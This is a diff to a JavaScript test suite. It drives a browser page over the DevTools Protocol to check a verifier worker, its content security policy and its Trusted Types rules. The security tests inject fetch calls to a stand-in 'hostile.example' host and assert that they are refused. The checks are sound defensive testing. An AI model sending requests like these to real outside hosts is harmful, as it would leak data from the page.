@@ -60,12 +60,13 @@ async function open(address) {
   const { targetId } = await send("Target.createTarget", { url: "about:blank" });
   const { sessionId } = await send("Target.attachToTarget", { targetId, flatten: true });
   const call = (method, params) => send(method, params, sessionId);
-  const tab = { call, requests: [], sent: [], errors: [], strict: true };
+  const tab = { call, sessionId, requests: [], sent: [], errors: [], strict: true };
   let loaded;
   const load = new Promise((resolve) => { loaded = resolve; });
   listeners.push(({ method, params, sessionId: from }) => {
     if (from !== sessionId) return;
-    if (method === "Network.requestWillBeSent") tab.requests.push(params.request.url);
+    // A blob is the page's own memory.
+    if (method === "Network.requestWillBeSent" && !params.request.url.startsWith("blob:")) tab.requests.push(params.request.url);
     if (method === "Fetch.requestPaused") {
       tab.sent.push(params.request.url);
       const { requestId } = params;
@@ -237,6 +238,64 @@ const tests = {
     assert.deepEqual(order, ["log-keys", "summary", "witnesses", "required", "cutoffs", "bundle", "summary"]);
   },
 
+  async "the verifier works beside the page, and a later question ends an earlier one"(tab) {
+    // Each worker waits before its first line until it is told to go on.
+    const seen = { attachedToTarget: [], detachedFromTarget: [] };
+    const awaited = { attachedToTarget: [], detachedFromTarget: [] };
+    listeners.push(({ method, params, sessionId }) => {
+      const what = method?.replace("Target.", "");
+      if (sessionId !== tab.sessionId || !(what in seen)) return;
+      const waiting = awaited[what].shift();
+      if (waiting) waiting(params.sessionId);
+      else seen[what].push(params.sessionId);
+    });
+    const next = (what) => seen[what].length > 0 ? seen[what].shift() : new Promise((resolve) => awaited[what].push(resolve));
+    const attach = (autoAttach) => tab.call("Target.setAutoAttach", { autoAttach, waitForDebuggerOnStart: autoAttach, flatten: true });
+    await attach(true);
+    const { path, policy } = of("valid/shown");
+    await fill(tab, policy);
+    await choose(tab, path);
+    const first = await next("attachedToTarget");
+    assert.equal(await text(tab, "headline"), "Checking");
+    assert.equal(await tab.evaluate("6 * 7"), 42, "the page lives");
+
+    const verdict = verdictAfter(tab, () => choose(tab, of("flipped").path));
+    const second = await next("attachedToTarget");
+    assert.equal(await next("detachedFromTarget"), first);
+    const goOn = (worker) => send("Runtime.runIfWaitingForDebugger", {}, worker);
+    await goOn(second);
+    assert.equal(await verdict, "invalid", "the later question's");
+    assert.equal(await next("detachedFromTarget"), second, "it is thrown away");
+
+    // A worker has no more rights than its page, and one that fails gives no verdict.
+    const broken = verdictAfter(tab, () => choose(tab, path));
+    const third = await next("attachedToTarget");
+    await send("Runtime.evaluate", { expression: `
+      Object.defineProperty(self, "onmessage", { set() {} });
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => postMessage({ error: "refused by " + effectiveDirective }));
+      addEventListener("message", () => fetch("http://hostile.example/worker").then(() => postMessage({ error: "sent" }), () => {}));
+    ` }, third);
+    await goOn(third);
+    assert.equal(await broken, "broken");
+    assert.match(await text(tab, "sentence"), /refused by connect-src\. That is no verdict/);
+    await attach(false);
+    tab.errors.length = 0;
+  },
+
+  async "of a thousand leaves, those that are opened are shown"(tab) {
+    const { path, policy } = of("huge");
+    await fill(tab, policy);
+    assert.equal(await verdictAfter(tab, () => choose(tab, path)), "valid");
+    const count = (what) => tab.evaluate(`document.querySelectorAll("${what}").length`);
+    assert.deepEqual([await count(".leaf"), await count(".leaf pre")], [task.leaves, 0]);
+    await tab.evaluate(`new Promise((resolve) => {
+      const leaf = document.querySelectorAll(".leaf")[7];
+      leaf.addEventListener("toggle", () => resolve(), { once: true });
+      leaf.open = true;
+    })`);
+    assert.deepEqual(await tab.evaluate(`[...document.querySelectorAll(".leaf pre")].map((pre) => pre.textContent.slice(0, 7))`), ["value 7"]);
+  },
+
   async "a key that a person types counts"(tab) {
     const { path, policy } = of("valid/shown");
     await fill(tab, { ...policy, log_keys: [] });
@@ -262,6 +321,8 @@ async function main() {
   const inside = await tab.evaluate(`fetch("http://hostile.example/inside").then(() => "sent", () => "refused")`);
   assert.equal(inside, "refused");
   await assert.rejects(tab.evaluate(`document.body.innerHTML = "<b>"`), /TrustedHTML/);
+  await assert.rejects(tab.evaluate(`void new Worker(URL.createObjectURL(new Blob(["1"])))`), /TrustedScriptURL/);
+  await assert.rejects(tab.evaluate(`trustedTypes.createPolicy("verifier", { createScriptURL: (url) => url })`), /verifier/);
   await tab.evaluate(`{
     const script = document.createElement("script");
     const image = document.createElement("img");
